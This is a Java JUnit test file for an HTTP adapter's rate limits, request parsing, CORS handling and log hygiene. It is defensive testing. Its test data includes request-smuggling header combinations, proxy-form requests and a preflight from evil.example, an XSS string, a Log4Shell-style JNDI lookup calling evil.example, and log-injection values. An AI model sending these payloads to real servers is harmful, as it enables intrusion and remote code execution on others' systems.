package io.ballast.adapter.http;

import static io.ballast.adapter.http.Visitor.ADMIN;
import static io.ballast.adapter.http.Visitor.COMMANDER;
import static io.ballast.adapter.http.Visitor.assertProblem;
import static io.ballast.adapter.http.Visitor.json;
import static org.assertj.core.api.Assertions.assertThat;

import io.ballast.adapter.http.HttpConfig.Encryption;
import io.ballast.adapter.http.HttpConfig.Pace;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** How much anybody may ask for, over real sockets, and what nobody is told. */
@Timeout(60)
class LimitsTest {

    private final Desk desk = new Desk();
    private final AtomicLong nanos = new AtomicLong();

    @AutoClose
    private final Visitor visitor = Visitor.to(desk, with(new Encryption.None()), nanos::get);

    private static HttpConfig with(Encryption encryption) {
        return new HttpConfig("127.0.0.1", 0, encryption, Visitor.PROXIED.tokens(), true, Pace.USUAL);
    }

    private void pass(long millis) {
        nanos.addAndGet(millis * 1_000_000);
    }

    @Nested
    class Of_one_address {

        private int read() {
            return visitor.get("/api/recovery/status").statusCode();
        }

        @Test
        void reads_are_answered_at_a_steady_pace() {
            for (int i = 0; i < 40; i++) {
                assertThat(read()).isEqualTo(200);
            }
            HttpResponse<String> refused = visitor.get("/api/recovery/status");
            assertProblem(refused, 429, "too-often");
            assertThat(refused.headers().firstValue("Retry-After")).hasValue("1");

            pass(1_000);
            for (int i = 0; i < 20; i++) {
                assertThat(read()).isEqualTo(200);
            }
            assertThat(read()).isEqualTo(429);
            assertThat(desk.questions()).as("no request asks the store").isZero();
        }

        @Test
        void the_page_is_there_for_several_who_open_it_at_the_same_moment() {
            for (int i = 0; i < 100; i++) {
                assertThat(visitor.get("/console/main.js").statusCode()).isEqualTo(200);
            }
            assertThat(read()).isEqualTo(200);
        }

        @Test
        void changes_are_taken_one_a_second_be_they_allowed_or_not() {
            for (int i = 0; i < 5; i++) {
                assertThat(visitor.post("/api/halt", "guess-" + i, "{}").statusCode())
                        .isEqualTo(401);
            }
            assertProblem(visitor.post("/api/halt", ADMIN, "{\"reason\":\"a\"}"), 429, "too-often");
            pass(1_000);
            assertThat(visitor.post("/api/halt", ADMIN, "{\"reason\":\"a\"}").statusCode())
                    .isEqualTo(200);
            assertThat(read()).as("reads are counted apart").isEqualTo(200);
        }

        @Test
        void probes_are_always_answered() {
            for (int i = 0; i < 200; i++) {
                assertThat(visitor.get("/health/live").statusCode()).isEqualTo(200);
            }
        }

        @Test
        void by_way_of_a_proxy_are_those_of_whoever_the_proxy_heard() {
            visitor.restart(with(new Encryption.ByProxy()));

            for (int i = 0; i < 40; i++) {
                assertThat(readFor("1.2.3.4, 10.0.0." + i % 2)).isEqualTo(200);
            }
            assertThat(readFor("10.0.0.1"))
                    .as("what comes before is anybody's claim")
                    .isEqualTo(200);
            for (int i = 0; i < 40; i++) {
                readFor("9.9.9." + i + ", 10.0.0.1");
            }
            assertThat(readFor("8.8.8.8, 10.0.0.1")).isEqualTo(429);
            assertThat(readFor("10.0.0.2")).isEqualTo(200);
            assertThat(readFor("10.0.0.2", "10.0.0.1"))
                    .as("one header behind the other")
                    .isEqualTo(429);
        }

        private int readFor(String... forwarded) {
            HttpRequest.Builder request =
                    visitor.at("/api/recovery/status").header("Authorization", "Bearer " + Visitor.READER);
            Arrays.stream(forwarded).forEach(each -> request.header("X-Forwarded-For", each));
            return visitor.send(request).statusCode();
        }
    }

    @Nested
    class Requests {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "Content-Length: -1|",
                    "Content-Length: 5x|",
                    "Content-Length: 99999999999999999999|",
                    "Content-Length: 3|Content-Length: 4|",
                    "Content-Length: 3|Transfer-Encoding: chunked|",
                    "Transfer-Encoding: chunked, gzip|",
                    "Transfer-Encoding: chunked||zz|abc|",
                    "Transfer-Encoding: chunked||ffffffffffffffff|abc|",
                })
        void whose_end_nobody_can_tell_are_refused(String rest) {
            visitor.restart(Visitor.LOCAL);

            String answer =
                    visitor.raw(("POST /api/halt HTTP/1.1|Host: localhost|Connection: close|Authorization: Bearer "
                                    + ADMIN + "|Content-Type: application/json|" + rest + "|")
                            .replace("|", "\r\n"));

            assertThat(answer).matches("(?s)HTTP/1.1 (400|413|501) .*").contains("correlation_id");
            assertThat(desk.told()).isEmpty();
        }

        @Test
        void that_are_too_large_are_refused_be_that_announced_or_found_out() {
            visitor.restart(Visitor.LOCAL);
            assertThat(visitor.raw("POST /api/halt HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + ADMIN
                            + "\r\nContent-Type: application/json\r\nConnection: close\r\n"
                            + "Content-Length: 1073741824\r\n\r\n"))
                    .startsWith("HTTP/1.1 413 ");
            String chunk = "1000\r\n" + "x".repeat(4_096) + "\r\n";

            String answer = visitor.raw("POST /api/halt HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + ADMIN
                    + "\r\nContent-Type: application/json\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n"
                    + chunk.repeat(17) + "0\r\n\r\n");

            assertThat(answer).startsWith("HTTP/1.1 413 ").contains("urn:ballast:problem:too-large");
        }

        @Test
        void with_ten_thousand_headers_are_refused() {
            assertThat(visitor.raw("GET /x HTTP/1.1\r\nHost: localhost\r\n" + "a: b\r\n".repeat(10_000) + "\r\n"))
                    .startsWith("HTTP/1.1 431 ");
        }

        @Test
        void behind_each_other_are_answered_in_order() {
            String each = "GET /health/live HTTP/1.1\r\nHost: localhost\r\n";

            String answers = visitor.raw((each + "\r\n").repeat(3) + each + "Connection: close\r\n\r\n");

            assertThat(answers.split("HTTP/1.1 200 OK", -1)).hasSize(5);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "GET http://evil.example/api/recovery/status HTTP/1.1|Host: evil.example|",
                    "CONNECT evil.example:443 HTTP/1.1|Host: evil.example:443|",
                })
        void of_the_form_of_proxies_reach_nothing_of_others(String request) {
            assertThat(visitor.raw((request + "Connection: close||").replace("|", "\r\n")))
                    .matches("(?s)HTTP/1.1 4[0-9][0-9] .*")
                    .contains("correlation_id");
        }

        @Test
        void of_pages_of_others_are_not_let_through_beforehand() {
            HttpResponse<String> preflight = visitor.send(visitor.at("/api/halt")
                    .header("Origin", "http://evil.example")
                    .header("Access-Control-Request-Method", "POST")
                    .method("OPTIONS", BodyPublishers.noBody()));

            assertThat(preflight.statusCode()).isGreaterThanOrEqualTo(400);
            assertThat(preflight.headers().map()).doesNotContainKey("access-control-allow-origin");
        }
    }

    @Test
    void markup_in_a_name_is_text_and_nothing_else() {
        desk.heldBy("<script>alert(1)</script>");

        HttpResponse<String> status = visitor.get("/api/recovery/status");

        assertThat(json(status).get("holder").asText()).isEqualTo("<script>alert(1)</script>");
        assertThat(status.headers().firstValue("Content-Type")).hasValue("application/json");
        assertThat(status.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(status.headers().firstValue("Content-Security-Policy"))
                .hasValueSatisfying(policy -> assertThat(policy).startsWith("default-src 'none'"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"${jndi:ldap://evil.example/a}", "a\u001b[31m", "a b", "<b>"})
    void an_id_that_could_deceive_a_log_is_replaced(String id) {
        String answer =
                visitor.raw("GET /health/live HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nX-Request-Id: " + id
                        + "\r\n\r\n");

        assertThat(answer).doesNotContain("X-Request-Id: " + id);
    }

    @Test
    void no_token_is_in_any_answer_or_in_the_log() {
        visitor.restart(Visitor.PROXIED);
        PrintStream before = System.err;
        ByteArrayOutputStream log = new ByteArrayOutputStream();
        List<String> answers = new ArrayList<>();
        try {
            System.setErr(new PrintStream(log, true, StandardCharsets.UTF_8));
            desk.failing(new IllegalStateException("a bug"));
            for (String token : List.of(Visitor.READER, ADMIN, COMMANDER, "canary-wrong")) {
                for (String path : List.of("/api/halt", "/api/resume", "/api/commands", "/api/recovery/validate")) {
                    answers.add(visitor.post(path, token, "{\"reason\":\"a\",\"confirm\":\"main\"}")
                            .toString());
                    answers.add(visitor.post(path, token, "{").body());
                }
            }
        } finally {
            System.setErr(before);
        }
        assertThat(log.toString(StandardCharsets.UTF_8))
                .contains("http.failed correlation_id=", "http.token_refused correlation_id=")
                .doesNotContain("canary");
        assertThat(answers.toString()).doesNotContain("canary");
        assertThat(Visitor.PROXIED.toString()).doesNotContain("canary");
    }
}
